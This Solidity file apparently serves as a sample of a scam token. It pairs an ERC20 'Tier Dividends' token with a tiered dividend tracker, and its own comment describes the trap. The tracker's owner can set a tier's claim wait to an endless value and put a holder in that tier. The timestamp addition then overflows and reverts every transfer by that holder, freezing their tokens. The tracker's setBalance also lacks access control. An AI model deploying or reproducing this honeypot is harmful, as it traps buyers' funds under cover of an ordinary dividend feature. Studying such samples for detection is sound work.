// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {PoolsG} from "./Bases.sol";

/// Dividend tracker with tiers of claim waits.
contract TierTrackerG is Ownable {
    mapping(address => uint256) public balances;
    mapping(address => uint256) public nextClaim;
    mapping(address => uint8) public tier;
    mapping(uint8 => uint256) public claimWait;

    constructor() Ownable(msg.sender) {
        claimWait[0] = 1 hours;
    }

    function setTierWait(uint8 which, uint256 wait) external onlyOwner {
        claimWait[which] = wait;
    }

    function setTier(address account, uint8 which) external onlyOwner {
        tier[account] = which;
    }

    function setBalance(address account, uint256 balance) external {
        if (account.code.length > 0) return;
        balances[account] = balance;
        nextClaim[account] = block.timestamp + claimWait[tier[account]];
    }
}

/// Transfers tell the tracker the new balances; its owner gives a tier an endless wait and a holder that tier, and the sum overflows in each of his transfers.
contract TierDividends is ERC20 {
    TierTrackerG public immutable tracker;
    address private immutable pool;

    constructor(address tracker_) ERC20("Tier Dividends", "TDIV") {
        tracker = TierTrackerG(tracker_);
        pool = PoolsG.poolOf(address(this));
        _mint(msg.sender, 600_000_000 ether);
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from != address(0) && from != pool) tracker.setBalance(from, balanceOf(from));
        if (to != pool) tracker.setBalance(to, balanceOf(to));
    }
}
